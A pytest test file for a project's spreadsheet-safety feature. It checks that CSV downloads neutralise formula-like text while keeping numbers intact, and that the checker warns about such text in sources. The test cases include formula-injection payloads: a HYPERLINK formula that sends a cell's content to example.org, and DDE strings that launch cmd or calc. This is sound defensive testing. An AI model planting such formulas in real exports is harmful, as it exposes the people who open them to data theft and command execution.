"""Downloads are safe to open in a spreadsheet, and check warns about formula-like text in the sources."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import edit, find
from strategykit.project import check
from strategykit.analysis.spreadsheet import neutralise
from strategykit.render.web import downloads

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"klicka")'


@pytest.mark.parametrize("text, shown", [
    (FORMULA, "'" + FORMULA),
    ("+46 90 16 10 00", "'+46 90 16 10 00"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("SCB, BE0101A", "SCB, BE0101A"),
    ("-3.5", "-3.5"),
    (-3.5, -3.5),
    (2030, 2030),
])
def test_a_formula_like_text_is_neutralised_and_numbers_are_not(text, shown):
    assert neutralise(text) == shown


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_downloads_neutralise_formulas_and_keep_negative_numbers(minimal):
    edit(minimal, "source: SCB, BE0101A/BefolkningNy", f"source: '{FORMULA}'")
    edit(minimal, "name: Invånare totalt, antal", "name: '@Invånare'")
    edit(minimal, "target: {year: 2030, value: 82, illustrative: true}", "target: {year: 2030, value: -3.5, illustrative: true}")
    edit(minimal, "direction: increase\n            baseline: {year: 2019",
         "direction: decrease\n            baseline: {year: 2019")
    (minimal / "data").mkdir()
    (minimal / "data" / "population.csv").write_text(
        "year,value,breakdown,provenance,source,retrieved\n"
        f'2019,-1,total,sourced,"{FORMULA.replace(chr(34), chr(34) * 2)}",2025-01-15\n', encoding="utf-8")
    files = downloads.render(check(minimal).model)
    targets = {r["target_id"]: r for r in _rows(files["targets.csv"])}
    assert targets["P1.2.a"]["baseline_source"] == "'" + FORMULA
    assert targets["P1.1.a"]["target_value"] == "-3.5"
    assert _rows(files["observations.csv"])[0]["source"] == "'" + FORMULA
    assert _rows(files["observations.csv"])[0]["value"] == "-1"
    assert {r["name"] for r in _rows(files["indicators.csv"])} >= {"'@Invånare"}
    sources = [t["baseline_source"] for t in json.loads(files["targets.json"])["targets"]]
    assert FORMULA in sources  # the JSON files keep the text as written


def test_formula_like_text_in_the_sources_is_warned_about_at_its_place(minimal):
    edit(minimal, "source: SCB, BE0101A/BefolkningNy", f"source: '{FORMULA}'")
    (minimal / "data").mkdir()
    (minimal / "data" / "population.csv").write_text(
        "year,value,breakdown,provenance,source,retrieved\n2019,270000,total,sourced,=cmd|x,2025-01-15\n",
        encoding="utf-8")
    found = find(minimal, "formula-like-text")
    places = {(d.position.file, d.position.line) for d in found}
    assert ("goals.yaml", 47) in places
    assert ("data/population.csv", 2) in places
    assert all(d.severity.value == "warning" for d in found)


def test_ordinary_sources_and_negative_numbers_give_no_formula_warning(minimal):
    edit(minimal, "target: {year: 2030, value: 82, illustrative: true}", "target: {year: 2030, value: -3.5, illustrative: true}")
    assert "formula-like-text" not in {d.code for d in check(minimal).diagnostics}
